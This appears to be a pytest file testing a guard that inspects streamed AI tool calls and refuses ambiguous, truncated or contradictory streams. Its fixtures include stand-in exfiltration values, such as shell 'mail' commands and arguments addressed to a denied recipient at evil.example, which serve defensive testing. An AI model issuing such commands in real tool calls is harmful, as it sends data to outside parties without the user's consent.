"""Streams that do not keep to the rules: every plausible way to put a call together is judged.

Clients disagree on them, so in ``enforce`` mode a stream whose ways differ is refused.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from memoflow.inspection.calls import API
from tests.inspection.calls._streams import BAD, DENIED, Call, Said, Watched, encoded, events, played

BAD_TEXT = f'{{"to": "{DENIED}@evil.example"}}'


def chunk(*entries: dict[str, Any], end: str | None = None, **delta: Any) -> dict[str, Any]:
    """A chunk with these fragments of calls."""
    more = {"tool_calls": list(entries)} if entries else {}
    return {"id": "c", "choices": [{"index": 0, "delta": {**more, **delta}, "finish_reason": end}]}


def fragment(
    index: int | None, arguments: str, id: str | None = None, name: str | None = None
) -> dict[str, Any]:
    """One fragment of a call."""
    function = {"arguments": arguments, **({} if name is None else {"name": name})}
    where = {} if index is None else {"index": index}
    return {**where, **({} if id is None else {"id": id, "type": "function"}), "function": function}


def outcome(api: API, shown: list[dict[str, Any]]) -> tuple[str | None, set[tuple[str, str]]]:
    """Why a stream is refused, and the calls that were judged."""
    enforced = played(api, [encoded(api, shown)], Watched())
    watched = Watched("shadow")
    played(api, [encoded(api, shown)], watched)
    return enforced.refusal and enforced.refusal.code, {(name, str(args)) for name, args in watched.calls}


END = chunk(end="tool_calls")
A, B = ("call_a", "alpha"), ("call_b", "beta")
# What deviates, the chunks, why it is refused if it is, and what is judged among others.
CHAT: list[tuple[str, list[dict[str, Any]], str | None, set[tuple[str, str]]]] = [
    (
        "interleaved",
        [
            chunk(fragment(0, "", *A), fragment(1, "", *B)),
            chunk(fragment(0, '{"n"'), fragment(1, '{"m"')),
            chunk(fragment(1, ": 2}"), fragment(0, ": 1}")),
            END,
        ],
        None,
        {("alpha", "{'n': 1}"), ("beta", "{'m': 2}")},
    ),
    (
        "two fragments of one index in a chunk",
        [chunk(fragment(0, '{"n"', *A), fragment(0, ": 1}")), END],
        None,
        {("alpha", "{'n': 1}")},
    ),
    (
        "the id repeated",
        [chunk(fragment(0, '{"n"', *A)), chunk(fragment(0, ": 1}", "call_a")), END],
        None,
        {("alpha", "{'n': 1}")},
    ),
    (
        "whole calls without an index",
        [chunk(fragment(None, '{"n": 1}', *A), fragment(None, '{"m": 2}', *B)), END],
        None,
        {("alpha", "{'n': 1}"), ("beta", "{'m': 2}")},
    ),
    (
        "stop as the reason",
        [chunk(fragment(0, "{}", *A)), chunk(end="stop")],
        None,
        {("alpha", "{}")},
    ),
    (
        "the older form",
        [
            chunk(function_call={"name": "alpha", "arguments": '{"n"'}),
            chunk(function_call={"arguments": ": 1}"}),
            END,
        ],
        None,
        {("alpha", "{'n': 1}")},
    ),
    (
        "two calls that share an index",
        [chunk(fragment(0, '{"n": 1}', *A)), chunk(fragment(0, '{"m": 2}', *B)), END],
        "AMBIGUOUS_CALLS",
        {("alpha", "{'n': 1}"), ("beta", "{'m': 2}"), ("alphabeta", '{"n": 1}{"m": 2}')},
    ),
    (
        "a tail under another index",
        [chunk(fragment(0, '{"n"', *A)), chunk(fragment(1, ": 1}")), END],
        "AMBIGUOUS_CALLS",
        {("alpha", "{'n': 1}"), ("alpha", '{"n"'), ("", ": 1}")},
    ),
    (
        "a name that comes twice",
        [chunk(fragment(0, "{", *A)), chunk(fragment(0, "}", None, "alpha")), END],
        "AMBIGUOUS_CALLS",
        {("alphaalpha", "{}")},
    ),
    (
        "an index that leaves one out",
        [chunk(fragment(2, "{}", *A)), END],
        None,
        {("alpha", "{}")},
    ),
    (
        "more after the end",
        [chunk(fragment(0, "{}", *A)), END, chunk(fragment(0, "x"))],
        "AFTER_END",
        {("alpha", "{}")},
    ),
    (
        "a message beside the deltas that says something else",
        [
            chunk(fragment(0, "{}", *A)),
            {
                "choices": [
                    {
                        "index": 0,
                        "delta": {},
                        "message": {"tool_calls": [fragment(0, BAD_TEXT, *B)]},
                        "finish_reason": "tool_calls",
                    }
                ]
            },
        ],
        "DENIED",
        {("alpha", "{}"), ("beta", str(BAD))},
    ),
    (
        "cut at its length",
        [chunk(fragment(0, '{"n"', *A)), chunk(end="length")],
        "INCOMPLETE",
        {("alpha", '{"n"')},
    ),
    ("no end", [chunk(fragment(0, "{}", *A))], "INCOMPLETE", set()),
    ("fragments that are none", [chunk(7), END], "SHAPE", set()),  # type: ignore[arg-type]
]


@pytest.mark.parametrize(("shown", "code", "judged"), [row[1:] for row in CHAT], ids=[row[0] for row in CHAT])
def test_chat_streams_that_deviate(
    shown: list[dict[str, Any]], code: str | None, judged: set[tuple[str, str]]
) -> None:
    """Where all ways come to the same, it is that; else all are judged and the stream is refused."""
    refused, asked = outcome("chat", shown)
    assert refused == code
    assert judged <= asked
    assert code is not None or judged == asked


def test_what_only_one_way_denies_is_denied_in_all() -> None:
    """A client that reads the other way would have run it."""
    shown = [chunk(fragment(0, "{}", *A)), chunk(fragment(0, BAD_TEXT, *B)), END]
    watched = Watched("shadow")
    out = played("chat", [encoded("chat", shown)], watched)
    assert "deny" in [one.verdict for one in out.decisions]
    assert DENIED.encode() not in played("chat", [encoded("chat", shown)], Watched()).release


def responses(change: Any) -> list[dict[str, Any]]:
    """The events of a reply with one call, changed."""
    # Each event gets parts of its own, so that changing one leaves the others as they are.
    shown = [
        json.loads(json.dumps(event)) for event in events("responses", Said("", (Call("lookup", {"a": 1}),)))
    ]
    change(shown)
    return shown


def change(kind: str, path: tuple[Any, ...], value: Any) -> Any:
    """Set something in the last event of a type."""

    def apply(shown: list[dict[str, Any]]) -> None:
        event: Any = next(one for one in reversed(shown) if one["type"] == kind)
        for step in path[:-1]:
            event = event[step]
        event[path[-1]] = value

    return apply


def drop(kind: str) -> Any:
    """Leave out all events of a type."""

    def apply(shown: list[dict[str, Any]]) -> None:
        shown[:] = [one for one in shown if one["type"] != kind]

    return apply


ARGS = "response.function_call_arguments"
ITEM, DONE = "response.output_item.done", "response.completed"


@pytest.mark.parametrize(
    ("changed", "code"),
    [
        (change(f"{ARGS}.done", ("arguments",), BAD_TEXT), "DENIED"),
        (change(f"{ARGS}.done", ("arguments",), "{}"), "AMBIGUOUS_CALLS"),
        (change(f"{ARGS}.delta", ("delta",), "1, 2"), "AMBIGUOUS_CALLS"),
        (change(ITEM, ("item", "arguments"), BAD_TEXT), "DENIED"),
        (change(DONE, ("response", "output", 1, "arguments"), BAD_TEXT), "DENIED"),
        (change(DONE, ("response", "output", 1, "name"), "other"), "SNAPSHOT_DIFFERS"),
        (change(DONE, ("response", "output"), []), "SNAPSHOT_DIFFERS"),
        (change(ITEM, ("item", "status"), "incomplete"), "INCOMPLETE"),
        (change(ITEM, ("item", "type"), "custom_tool_call"), "ITEM_CHANGED"),
        (change("response.output_item.added", ("item", "arguments"), BAD_TEXT), "DENIED"),
        (change("response.output_item.added", ("item", "arguments"), '{"a": 2}'), "AMBIGUOUS_CALLS"),
        (change("response.output_item.added", ("item", "arguments"), '{"a": 1}'), None),
        (drop(f"{ARGS}.delta"), None),
        (drop(f"{ARGS}.done"), None),
        (drop(ITEM), "SNAPSHOT_DIFFERS"),
    ],
)
def test_responses_streams_that_contradict_themselves(changed: Any, code: str | None) -> None:
    """Deltas, their end, the item and the snapshot have to say the same."""
    shown = responses(changed)
    refused, _ = outcome("responses", shown)
    assert refused == code
    if BAD_TEXT in str(shown):
        assert DENIED.encode() not in played("responses", [encoded("responses", shown)], Watched()).release


@pytest.mark.parametrize("name", ["id", "item_id"])
def test_a_responses_item_that_is_named_by_no_text_is_refused(name: str) -> None:
    """It can be neither looked up nor mistaken for another."""
    shown = [{"type": f"{ARGS}.delta", "item_id": [1], "delta": "{}"}]
    if name == "id":
        shown = [{"type": "response.output_item.added", "item": {"type": "function_call", "id": [1]}}]
    assert outcome("responses", shown)[0] == {"id": "INCOMPLETE", "item_id": "STRAY_DELTA"}[name]


def test_a_response_that_streams_no_items_is_judged_by_its_snapshot() -> None:
    """Some servers send nothing but the terminal event."""
    last = events("responses", Said("", (Call("send_mail", BAD),)))[-1]
    assert outcome("responses", [last])[0] == "DENIED"


@pytest.mark.parametrize(
    ("kind", "field", "value"),
    [
        ("custom_tool_call", "input", f"mail {DENIED}@evil.example"),
        ("shell_call", "action", {"commands": [f"mail {DENIED}@evil.example"]}),
        ("local_shell_call", "action", {"command": ["mail", f"{DENIED}@evil.example"]}),
        ("apply_patch_call", "operation", {"diff": f"+{DENIED}@evil.example"}),
        ("computer_call", "actions", [{"type": "type", "text": f"{DENIED}@evil.example"}]),
        ("mcp_approval_request", "arguments", BAD_TEXT),
    ],
)
def test_every_item_that_a_client_acts_on_is_judged(kind: str, field: str, value: Any) -> None:
    """Not functions alone."""
    item = {"id": "x_1", "type": kind, "call_id": "c", "name": "n", field: value}
    shown = [
        {"type": "response.output_item.added", "output_index": 0, "item": {**item, field: None}},
        {"type": "response.output_item.done", "output_index": 0, "item": item},
    ]
    assert outcome("responses", shown)[0] == "DENIED"


def test_what_the_provider_ran_is_told_and_not_held() -> None:
    """It cannot be stopped any more; what it returned taints what comes after it."""
    page = "clear /srv/app/CACHE_9f3a2b first"
    item = {
        "id": "m",
        "type": "mcp_call",
        "name": "n",
        "server_label": "s",
        "arguments": BAD_TEXT,
        "output": page,
    }
    shown = [
        {
            "type": "response.output_item.added",
            "output_index": 0,
            "item": {**item, "arguments": "", "output": None},
        },
        {"type": "response.output_item.done", "output_index": 0, "item": item},
    ]
    watched = Watched()
    out = played("responses", [encoded("responses", shown)], watched)
    assert out.refusal is None
    assert out.release == encoded("responses", shown)
    assert [one.verdict for one in out.decisions] == ["allow", "deny"]
    assert [event.kind.name for event in watched.asked] == ["tool_result", "tool_call"]


def messages(*blocks: dict[str, Any]) -> list[dict[str, Any]]:
    """A stream of these events between a beginning and an end."""
    begun = {
        "type": "message_start",
        "message": {"id": "m", "type": "message", "role": "assistant", "content": []},
    }
    return [begun, *blocks, {"type": "message_stop"}]


def start(index: Any, **block: Any) -> dict[str, Any]:
    """The start of a call."""
    given = {"type": "tool_use", "id": f"t{index}", "name": "lookup", "input": {}, **block}
    return {"type": "content_block_start", "index": index, "content_block": given}


def more(index: Any, text: str) -> dict[str, Any]:
    """A piece of its input."""
    return {
        "type": "content_block_delta",
        "index": index,
        "delta": {"type": "input_json_delta", "partial_json": text},
    }


def stop(index: Any) -> dict[str, Any]:
    """Its end."""
    return {"type": "content_block_stop", "index": index}


@pytest.mark.parametrize(
    ("shown", "code", "judged"),
    [
        ([start(0), stop(0)], None, {("lookup", "{}")}),
        ([start(0, input={"a": 1}), stop(0)], None, {("lookup", "{'a': 1}")}),
        ([start(0, input={"a": 1}), more(0, '{"a": 1}'), stop(0)], None, {("lookup", "{'a': 1}")}),
        (
            [start(0, input={"a": 1}), more(0, BAD_TEXT), stop(0)],
            "DENIED",
            {("lookup", "{'a': 1}"), ("lookup", str(BAD))},
        ),
        (
            [start(0, input={"a": 1}), more(0, '{"a": 2}'), stop(0)],
            "AMBIGUOUS_CALLS",
            {("lookup", "{'a': 1}"), ("lookup", "{'a': 2}")},
        ),
        ([start(0), more(0, '{"a": '), stop(0)], "INCOMPLETE", {("lookup", '{"a":')}),
        ([start(0), more(0, '{"a": ')], "INCOMPLETE", set()),
        ([start(0), more(1, "{}"), stop(0)], "STRAY_DELTA", {("lookup", "{}")}),
        ([start(0), stop(0), more(0, "{}")], "STRAY_DELTA", {("lookup", "{}")}),
        ([start(0), start(0), stop(0)], "BLOCK_REPEATED", {("lookup", "{}")}),
        ([start("x")], "SHAPE", set()),
        ([more([], "{}")], "STRAY_DELTA", set()),
        ([stop({})], "STRAY_STOP", set()),
        ([start(0, type="text"), more(0, BAD_TEXT)], "STRAY_DELTA", set()),
        ([start(0, type="server_tool_use"), more(0, BAD_TEXT), stop(0)], None, {("lookup", str(BAD))}),
    ],
)
def test_message_streams_that_deviate(
    shown: list[dict[str, Any]], code: str | None, judged: set[tuple[str, str]]
) -> None:
    """The text that was written is judged, and not the empty input that stands for one that was cut."""
    refused, asked = outcome("messages", messages(*shown))
    assert (refused, asked) == (code, judged)


def test_a_message_that_begins_with_calls_is_refused() -> None:
    """Some clients take what it begins with, others what follows."""
    begun = {
        "type": "message_start",
        "message": {"content": [{"type": "tool_use", "name": "n", "input": {}}]},
    }
    assert outcome("messages", [begun])[0] == "BEGAN_WITH_CALLS"
